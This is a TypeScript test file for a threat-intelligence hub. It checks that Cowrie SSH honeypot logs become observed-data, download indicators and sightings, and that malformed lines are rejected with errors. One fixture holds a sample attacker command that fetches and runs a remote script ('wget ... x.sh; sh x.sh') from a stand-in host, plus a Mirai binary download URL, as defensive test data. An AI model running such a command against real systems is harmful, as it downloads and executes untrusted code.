import { readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeStorage } from '../support/storage.ts';
import { as, makeMember, startHub, type TestHub, type TestMember } from '../support/app.ts';
import { hasSharedData, sharedData } from '../support/shared-data.ts';
import { sniffFormat } from '../../src/ingest/parsers/format.sniffer.ts';

// Issue 11.2 (last part): a Cowrie honeypot log is recognised and becomes observed-data per session with
// its real fields, indicators only for downloads, sightings of known indicators; never free text.
const real = hasSharedData();
const LOG = 'sensor/cowrie/cowrie.json.2018-05-15';

interface Report {
  status: string;
  format: string;
  counts: { objects: number; created: number; updated: number; unchanged: number; rejected: number };
  errors: { where: string; reason: string }[];
  warnings: { where: string; reason: string }[];
  summary: Record<string, unknown>;
}

async function ingest(hub: TestHub, key: string, body: Buffer | string, query: string, headers: Record<string, string> = {}): Promise<Report> {
  const r = await hub.server.inject({ method: 'POST', url: `/api/v1/ingest?${query}`, headers: { ...as(key), 'content-type': 'application/octet-stream', ...headers }, payload: body });
  expect(r.statusCode, r.body.slice(0, 400)).toBe(200);
  return r.json() as Report;
}

async function stored(hub: TestHub, orgId: string, prefix: string): Promise<Record<string, unknown>[]> {
  const rows = await hub.app.storage.db.selectFrom('contributions').select(['data']).where('org_id', '=', orgId).where('object_id', 'like', `${prefix}--%`).execute();
  return rows.map((r) => (typeof r.data === 'string' ? JSON.parse(r.data) : r.data) as Record<string, unknown>);
}

/** Sessions and sources counted from the file by hand: distinct (sensor, session), distinct src_ip. */
function countByHand(text: string) {
  const sessions = new Set<string>();
  const sources = new Set<string>();
  const perSource = new Map<string, Set<string>>();
  for (const line of text.split('\n')) {
    if (!line.trim()) continue;
    const o = JSON.parse(line) as { session: string; sensor: string; src_ip: string };
    sessions.add(`${o.sensor}/${o.session}`);
    sources.add(o.src_ip);
    perSource.set(o.src_ip, (perSource.get(o.src_ip) ?? new Set()).add(o.session));
  }
  return { sessions: sessions.size, sources: sources.size, perSource };
}

// A session as Cowrie logs it, with a command and a download (the real log of the day has none).
function downloadSession(session: string, ip: string): string {
  const base = { session, sensor: 'kessetsu-test', src_ip: ip, isError: 0, system: 'HoneyPotSSHTransport' };
  const lines = [
    { ...base, eventid: 'cowrie.session.connect', timestamp: '2026-11-20T10:00:00.100000Z', src_port: 40000, dst_ip: '10.0.0.5', dst_port: 22, protocol: 'ssh' },
    { ...base, eventid: 'cowrie.client.version', timestamp: '2026-11-20T10:00:00.200000Z', version: 'SSH-2.0-Go' },
    { ...base, eventid: 'cowrie.login.failed', timestamp: '2026-11-20T10:00:01.000000Z', username: 'admin', password: 'hunter2-not-an-ioc.example.com' },
    { ...base, eventid: 'cowrie.login.success', timestamp: '2026-11-20T10:00:02.000000Z', username: 'root', password: 'http://password.example.net/' },
    { ...base, eventid: 'cowrie.command.input', timestamp: '2026-11-20T10:00:03.000000Z', input: 'cd /tmp; wget http://cmd-only.example.org/x.sh; sh x.sh' },
    {
      ...base,
      eventid: 'cowrie.session.file_download',
      timestamp: '2026-11-20T10:00:04.000000Z',
      url: 'http://malware-drop.example.com/bins/mirai.arm7',
      shasum: 'a3f1d9c0e8b7a6f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7',
      outfile: 'var/lib/cowrie/downloads/a3f1',
    },
    { ...base, eventid: 'cowrie.session.closed', timestamp: '2026-11-20T10:00:05.000000Z', duration: 4.9 },
  ];
  return `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`;
}

it('the sniffer recognises a Cowrie log by its first record', () => {
  expect(sniffFormat(Buffer.from(downloadSession('s1', '198.51.100.7'))).format).toBe('cowrie');
  expect(sniffFormat(Buffer.from('{"eventid": "dionaea.connection", "src_ip": "1.2.3.4"}\n')).format).toBeNull();
});

describeStorage('issue 11.2: Cowrie honeypot logs become observed-data and sightings', (backend) => {
  let hub: TestHub;
  let honeypot: TestMember;
  let intel: TestMember;
  beforeAll(async () => {
    hub = await startHub(backend);
    honeypot = await makeMember(hub, { sector: 'telecom' });
    intel = await makeMember(hub);
  });
  afterAll(() => hub.close());

  it.skipIf(!real)('the real log: one observed-data per session, one address per source, sightings of a known scanner, nothing from passwords or client versions', { timeout: 120_000 }, async () => {
    const body = readFileSync(sharedData(LOG));
    const byHand = countByHand(body.toString('utf8'));
    // Another member already knows one of the day's attackers as a scanner.
    const [scanner, sessionsOfScanner] = [...byHand.perSource.entries()].sort((a, b) => b[1].size - a[1].size)[0]!;
    await ingest(hub, intel.key, `${scanner}\n`, 'format=text&tlp=green');
    await hub.app.indexReady;

    const report = await ingest(hub, honeypot.key, body, 'format=auto&tlp=green&filename=cowrie.json.2018-05-15');
    expect(report.format).toBe('cowrie');
    expect(report.errors).toEqual([]);
    expect(report.summary).toMatchObject({ sessions: byHand.sessions, sources: byHand.sources, sightings_of_known_indicators: 1 });

    const observed = await stored(hub, honeypot.org.id, 'observed-data');
    expect(observed).toHaveLength(byHand.sessions);
    const addresses = await stored(hub, honeypot.org.id, 'ipv4-addr');
    expect(new Set(addresses.map((a) => a.value))).toEqual(new Set(byHand.perSource.keys()));
    const loginSucceeded = observed.find((o) => (o.x_kessetsu_honeypot as { login_succeeded?: boolean }).login_succeeded)!;
    expect(loginSucceeded.x_kessetsu_honeypot).toMatchObject({ honeypot: 'cowrie', protocol: 'ssh', honeypot_port: 2222 });
    expect((loginSucceeded.x_kessetsu_honeypot as { client_version: string }).client_version).toMatch(/^SSH-2\.0-/);
    expect(await stored(hub, honeypot.org.id, 'network-traffic')).toHaveLength(byHand.sessions);

    // No indicator of its own: SSH algorithm names, client versions and passwords are fields, not values.
    expect(await stored(hub, honeypot.org.id, 'indicator')).toEqual([]);
    const sightings = await stored(hub, honeypot.org.id, 'sighting');
    expect(sightings).toHaveLength(1);
    const [intelIndicator] = await stored(hub, intel.org.id, 'indicator');
    expect(sightings[0]).toMatchObject({ sighting_of_ref: intelIndicator!.id, count: sessionsOfScanner.size, x_kessetsu_where: 'sensor' });
    expect((sightings[0]!.observed_data_refs as string[]).every((id) => observed.some((o) => o.id === id))).toBe(true);
    expect(sightings[0]!.where_sighted_refs).toHaveLength(1);

    // The same log again changes nothing.
    const again = await ingest(hub, honeypot.key, body, 'format=auto&tlp=green&filename=cowrie.json.2018-05-15');
    expect(again.counts.created).toBe(0);
    expect(again.counts.updated).toBe(0);
    expect(again.counts.unchanged).toBe(report.counts.objects);
  });

  it('downloads become indicators and sightings; commands and credentials stay fields of the session; gzip is read', async () => {
    const member = await makeMember(hub);
    const log = downloadSession('d0wnl0ad01', '198.51.100.7') + downloadSession('d0wnl0ad02', '198.51.100.7');
    // The same lines twice (a log concatenated with itself) count once.
    const report = await ingest(hub, member.key, gzipSync(log + log), 'tlp=amber', { 'content-encoding': 'gzip' });
    expect(report.format).toBe('cowrie');
    expect(report.summary).toMatchObject({ sessions: 2, sources: 1, duplicate_lines: 14, commands: 2, downloads: 2, login_attempts: 4 });
    expect(report.warnings.some((w) => /14 exact duplicate line/.test(w.reason))).toBe(true);
    const indicators = await stored(hub, member.org.id, 'indicator');
    expect(indicators.map((i) => i.pattern).sort()).toEqual([
      "[file:hashes.'SHA-256' = 'a3f1d9c0e8b7a6f5e4d3c2b1a09f8e7d6c5b4a39281706f5e4d3c2b1a0f9e8d7']",
      "[url:value = 'http://malware-drop.example.com/bins/mirai.arm7']",
    ]);
    const sightings = await stored(hub, member.org.id, 'sighting');
    expect(sightings).toHaveLength(2);
    for (const s of sightings) expect(s).toMatchObject({ count: 2 });
    expect(new Set(sightings.map((s) => s.sighting_of_ref))).toEqual(new Set(indicators.map((i) => i.id)));
    const [od] = await stored(hub, member.org.id, 'observed-data');
    const fields = od!.x_kessetsu_honeypot as { commands: { input: string }[]; logins: { password: string; success: boolean }[]; client_version: string };
    expect(fields.commands[0]!.input).toContain('wget http://cmd-only.example.org/x.sh');
    expect(fields.logins.map((l) => [l.password, l.success])).toEqual([
      ['hunter2-not-an-ioc.example.com', false],
      ['http://password.example.net/', true],
    ]);
    expect(fields.client_version).toBe('SSH-2.0-Go');
    expect(await stored(hub, member.org.id, 'url')).toHaveLength(1);
    expect(await stored(hub, member.org.id, 'domain-name')).toEqual([]);
    // What attackers typed or tried is never looked up as a value.
    const r = await hub.server.inject({ method: 'POST', url: '/api/v1/lookup', headers: as(member.key), payload: { values: ['http://password.example.net/', 'cmd-only.example.org', 'SSH-2.0-Go', 'http://malware-drop.example.com/bins/mirai.arm7'] } });
    const found = (r.json().items as { value: string; objects: unknown[] }[]).filter((i) => i.objects.length > 0).map((i) => i.value);
    expect(found).toEqual(['http://malware-drop.example.com/bins/mirai.arm7']);
  });

  it('hostile lines get errors naming the line; the good sessions are kept', async () => {
    const member = await makeMember(hub);
    const good = downloadSession('g00d5e55', '198.51.100.9').trimEnd().split('\n');
    const bad = [
      '{"eventid": "cowrie.session.connect", "session": "x1", "src_ip": "198.51.100.10", "timestamp": "2026-11-20T10:00:00Z"', // line 8: truncated
      `{"eventid": "cowrie.login.failed", "session": "x2", "src_ip": "198.51.100.11", "timestamp": "2026-11-20T10:00:00Z", "password": "${'A'.repeat(300_000)}"}`, // line 9: huge
      '{"eventid": "cowrie.session.connect", "session": "x3", "src_ip": "198.51.100.12", "src_port": "abc", "timestamp": "2026-11-20T10:00:00Z"}', // line 10
      '{"eventid": "cowrie.login.failed", "session": "x4", "src_ip": "198.51.100.13", "username": 5, "timestamp": "2026-11-20T10:00:00Z"}', // line 11
      '{"eventid": "cowrie.session.connect", "session": "x5", "src_ip": "999.1.1.1", "timestamp": "2026-11-20T10:00:00Z"}', // line 12
      '[1, 2, 3]', // line 13
      '{"eventid": "dionaea.connection", "session": "x6", "src_ip": "198.51.100.14", "timestamp": "2026-11-20T10:00:00Z"}', // line 14
      '{"eventid": "cowrie.session.connect", "session": "x7", "src_ip": "198.51.100.15", "timestamp": "yesterday"}', // line 15
      '{"eventid": "cowrie.session.connect", "src_ip": "198.51.100.16", "timestamp": "2026-11-20T10:00:00Z"}', // line 16
    ];
    const report = await ingest(hub, member.key, [...good, ...bad].join('\n'), 'format=cowrie&tlp=green');
    expect(report.status).toBe('done');
    const byLine = Object.fromEntries(report.errors.map((e) => [e.where, e.reason]));
    expect(Object.keys(byLine)).toEqual(['line 8', 'line 9', 'line 10', 'line 11', 'line 12', 'line 13', 'line 14', 'line 15', 'line 16']);
    expect(byLine['line 8']).toMatch(/malformed JSON/);
    expect(byLine['line 9']).toMatch(/characters long, over the 262,144/);
    expect(byLine['line 10']).toMatch(/^src_port: expected a port number/);
    expect(byLine['line 11']).toMatch(/^username: expected a string, got number 5/);
    expect(byLine['line 12']).toMatch(/^src_ip: "999\.1\.1\.1" is not an IP address/);
    expect(byLine['line 13']).toMatch(/expected a Cowrie record \(a JSON object\), got a list/);
    expect(byLine['line 14']).toMatch(/not a Cowrie event/);
    expect(byLine['line 15']).toMatch(/^timestamp:/);
    expect(byLine['line 16']).toMatch(/^session: missing/);
    expect(report.summary).toMatchObject({ sessions: 1, sources: 1 });
    expect(await stored(hub, member.org.id, 'observed-data')).toHaveLength(1);
    expect(await stored(hub, member.org.id, 'indicator')).toHaveLength(2);
  });

  it('a file of nothing but bad lines stores nothing and says why', async () => {
    const member = await makeMember(hub);
    const r = await hub.server.inject({ method: 'POST', url: '/api/v1/ingest?format=cowrie&tlp=green', headers: { ...as(member.key), 'content-type': 'application/octet-stream' }, payload: '{"eventid": "cowrie.session.connect"\nnot json\n' });
    expect(r.statusCode).toBe(422);
    expect(r.json().error.message).toMatch(/line 1: malformed JSON/);
    expect(await stored(hub, member.org.id, 'observed-data')).toEqual([]);
  });
});
